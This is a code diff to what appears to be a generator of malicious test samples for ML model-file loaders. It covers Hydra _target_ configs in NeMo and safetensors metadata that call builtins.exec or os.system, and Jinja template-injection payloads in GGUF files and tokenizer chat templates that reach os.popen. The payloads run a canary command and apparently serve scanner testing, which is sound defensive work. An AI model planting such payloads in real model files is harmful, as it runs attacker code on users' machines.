@@ -43,7 +43,13 @@ for _k, _cfg in HYDRA.items():
     def _build(out: Path, c: Canary, cfg=_cfg) -> None:  # type: ignore[no-untyped-def]
         _nemo(out, cfg(c))
 
-    sample(f"nemo-hydra-{_k}", "cve-2025-23304-nemo-hydra", loader="hydra_nemo", name="model.nemo")(_build)
+    sample(
+        f"nemo-hydra-{_k}",
+        "cve-2025-23304-nemo-hydra",
+        loader="hydra_nemo",
+        env="hydra132",
+        name="model.nemo",
+    )(_build)
 
 
 def _safetensors(out: Path, metadata: dict[str, str]) -> None:
@@ -53,13 +59,25 @@ def _safetensors(out: Path, metadata: dict[str, str]) -> None:
     out.write_bytes(struct.pack("<Q", len(raw)) + raw + b"\x00" * 8)
 
 
-@sample("safetensors-hydra-target", "unit42-safetensors-hydra", loader="hydra_safetensors", name="model.safetensors")
+@sample(
+    "safetensors-hydra-target",
+    "unit42-safetensors-hydra",
+    loader="hydra_safetensors",
+    env="hydra132",
+    name="model.safetensors",
+)
 def _st(out: Path, c: Canary) -> None:
     cfg = {"_target_": "builtins.exec", "_args_": [c.py]}
     _safetensors(out, {"format": "pt", "config": json.dumps(cfg)})
 
 
-@sample("safetensors-hydra-nested", "unit42-safetensors-hydra", loader="hydra_safetensors", name="model.safetensors")
+@sample(
+    "safetensors-hydra-nested",
+    "unit42-safetensors-hydra",
+    loader="hydra_safetensors",
+    env="hydra132",
+    name="model.safetensors",
+)
 def _st_nested(out: Path, c: Canary) -> None:
     cfg = {"encoder": {"_target_": "os.system", "_args_": [c.shell]}, "dim": 64}
     _safetensors(out, {"format": "pt", "config": json.dumps(cfg)})
@@ -89,7 +107,10 @@ def _hf_tok(out: Path, c: Canary) -> None:
         "class TinyTokenizer(PreTrainedTokenizer):\n    pass\n"
     )
     _hf_folder(out, {"model_type": "bert"}, {"tokenization_tiny.py": code})
-    tok = {"auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}, "tokenizer_class": "TinyTokenizer"}
+    tok = {
+        "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]},
+        "tokenizer_class": "TinyTokenizer",
+    }
     (out / "tokenizer_config.json").write_text(json.dumps(tok))
 
 
@@ -98,17 +119,16 @@ SSTI = {
     "cycler-globals": "{{ cycler.__init__.__globals__.os.popen(CMD).read() }}",
     "subclasses-walk": (
         "{% for x in ().__class__.__base__.__subclasses__() %}"
-        "{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen(CMD).read() }}"
+        "{% if 'warning' in x.__name__ %}"
+        "{{ x()._module.__builtins__['__import__']('os').popen(CMD).read() }}"
         "{% endif %}{% endfor %}"
     ),
     "computed-subscript": (
-        "{% set g = '__glo' ~ 'bals__' %}{% set i = '__in' ~ 'it__' %}"
-        "{{ lipsum[i][g]['o' ~ 's']['po' ~ 'pen'](CMD).read() if lipsum[i] is defined else "
-        "lipsum[g]['o' ~ 's']['po' ~ 'pen'](CMD).read() }}"
+        "{% set g = '__glo' ~ 'bals__' %}{{ lipsum[g]['o' ~ 's']['po' ~ 'pen'](CMD).read() }}"
     ),
     "attr-filter-escapes": (
         "{{ (joiner|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))"
-        "['os']|attr('popen') }}{{ (joiner|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen(CMD).read() }}"
+        "['os'].popen(CMD).read() }}"
     ),
 }
 
@@ -132,9 +152,18 @@ for _k in SSTI:
         w.write_tensors_to_file()
         w.close()
 
-    sample(f"gguf-ssti-{_k}", "cve-2024-34359-gguf-ssti", loader="gguf_jinja", name="model.gguf")(_gguf)
+    sample(f"gguf-ssti-{_k}", "cve-2024-34359-gguf-ssti", loader="gguf_jinja", name="model.gguf")(
+        _gguf
+    )
 
 
-@sample("tokenizer-config-ssti", "chat-template-ssti-tokenizer-config", loader="hf_jinja", name="tokenizer_config.json")
+@sample(
+    "tokenizer-config-ssti",
+    "chat-template-ssti-tokenizer-config",
+    loader="hf_jinja",
+    name="tokenizer_config.json",
+)
 def _tok_ssti(out: Path, c: Canary) -> None:
-    out.write_text(json.dumps({"chat_template": _template("cycler-globals", c), "eos_token": "</s>"}))
+    out.write_text(
+        json.dumps({"chat_template": _template("cycler-globals", c), "eos_token": "</s>"})
+    )
